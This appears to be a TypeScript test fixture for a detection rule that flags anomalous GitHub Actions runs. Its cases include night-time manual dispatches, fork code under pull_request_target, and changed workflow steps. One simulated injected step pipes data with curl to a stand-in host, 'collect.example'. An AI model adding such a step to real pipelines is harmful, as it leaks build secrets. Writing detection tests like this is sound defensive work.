import { defineStreamCases, type CaseObservation } from '#model/stream-cases.ts';

const start = Date.UTC(2026, 0, 5, 9);
const hour = 3_600_000;
const day = 24 * hour;

/** Working days at nine: run `n` is the `n`th. */
const at = (n: number): number => start + (Math.floor(n / 4) + 2 * Math.floor(n / 20)) * day + (n % 4) * 2 * hour;

interface Seed {
  readonly n: number;
  readonly time?: number;
  readonly trigger?: string;
  readonly actor?: string;
  readonly steps?: readonly string[];
  readonly seconds?: number;
  readonly source?: string;
  readonly sha?: string;
  readonly outcome?: string;
}

const usualSteps = ['Set up job', 'Run actions/checkout@v4', 'Run npm ci', 'Run npm run build', 'Complete job'];
const people = ['mira', 'jonas', 'kaja'];

function event(operation: string, actor: string): CaseObservation['event'] {
  return { class_uid: 6003, api: { operation }, actor: { user: { name: actor } }, resources: [{ name: 'acme/web', type: 'Repository' }] };
}

/** A run with one job, told as both. */
function run({ n, time = at(n), trigger = 'push', actor = people[n % 3] ?? 'mira', steps = usualSteps, seconds = 240 + ((n * 37) % 50), source = 'acme/web', sha = `c${n}`, outcome = 'success' }: Seed): CaseObservation[] {
  const shared = { run: `${n}-${time}`, attempt: '1', workflow: 'build', branch: 'main', sha, initiator: actor, state: 'completed', outcome };
  const names = { repo: 'acme/web', actor };
  return [
    { logsource: { product: 'github' }, time, event: event('workflow_job.completed', actor), record: { action: 'workflow_job.completed', ...names, pipeline_run: { kind: 'job', ...shared, job: 'build', seconds, labels: ['ubuntu-24.04'], runner: 'GitHub Actions 12', runner_group: 'GitHub Actions', hosted: true, steps } } },
    { logsource: { product: 'github' }, time: time + 5_000, event: event('workflows.completed_workflow_run', actor), record: { action: 'workflows.completed_workflow_run', ...names, pipeline_run: { kind: 'run', ...shared, path: '.github/workflows/build.yml', trigger, source, seconds: seconds + 12 } } },
  ];
}

const history = (runs: number): CaseObservation[] => Array.from({ length: runs }, (_, n) => run({ n })).flat();

function pushed(time: number, paths: readonly string[], sha = 'x', actor = 'mira'): CaseObservation {
  return { logsource: { product: 'github' }, time, event: event('git.push', actor), record: { action: 'git.push', repo: 'acme/web', actor, ref: 'refs/heads/main', head_sha: sha, paths } };
}

const changedSteps = [...usualSteps.slice(0, 2), 'Run curl -sf -d @- https://collect.example/x', ...usualSteps.slice(2)];
const told = pushed(start - day, ['src/a.ts']);

export default defineStreamCases({
  fires: [
    { name: 'somebody new starts it by hand at night', observations: [told, ...history(280), ...run({ n: 280, time: at(280) - 6 * hour, trigger: 'workflow_dispatch', actor: 'svc-old' })] },
    { name: 'code of a fork in a run that sees secrets', observations: [told, ...history(280), ...run({ n: 280, trigger: 'pull_request_target', actor: 'drive-by', source: 'drive-by/web' })] },
    { name: 'a step that nobody wrote', observations: [told, ...history(280), ...run({ n: 280, steps: changedSteps })] },
    { name: 'a changed definition, told once and for information', observations: [told, ...history(80), pushed(at(80) - hour, ['.github/workflows/build.yml'], 'c80'), ...run({ n: 80, steps: changedSteps }), ...run({ n: 81, steps: changedSteps }), ...run({ n: 82, steps: changedSteps })] },
    { name: 'the same twice is told once', observations: [told, ...history(280), ...run({ n: 280, trigger: 'workflow_dispatch', actor: 'svc-old' }), ...run({ n: 281, trigger: 'workflow_dispatch', actor: 'svc-old' })] },
  ],
  silent: [
    { name: 'what it always does', observations: [told, ...history(80)] },
    { name: 'a workflow that is new', observations: [told, ...run({ n: 0 }), ...run({ n: 1, trigger: 'workflow_dispatch', actor: 'svc-old', time: at(1) - 6 * hour })] },
    { name: 'somebody else of the team', observations: [told, ...history(80), ...run({ n: 80, actor: 'lena' })] },
    { name: 'a run that fails early', observations: [told, ...history(80), ...run({ n: 80, outcome: 'failure', steps: usualSteps.slice(0, 2), seconds: 10 })] },
    { name: 'a run that took half as long again', observations: [told, ...history(80), ...run({ n: 80, seconds: 400 })] },
    { name: 'a delivery that comes twice', observations: [told, ...history(80).flatMap((one) => [one, one])] },
    { name: 'a changed definition that shows nothing new', observations: [told, ...history(80), pushed(at(80) - hour, ['.github/workflows/build.yml'], 'c80'), ...run({ n: 80 })] },
    { name: 'a push without files', observations: [{ logsource: { product: 'github' }, event: event('git.push', 'mira'), record: { action: 'git.push', repo: 'acme/web' } }] },
  ],
});
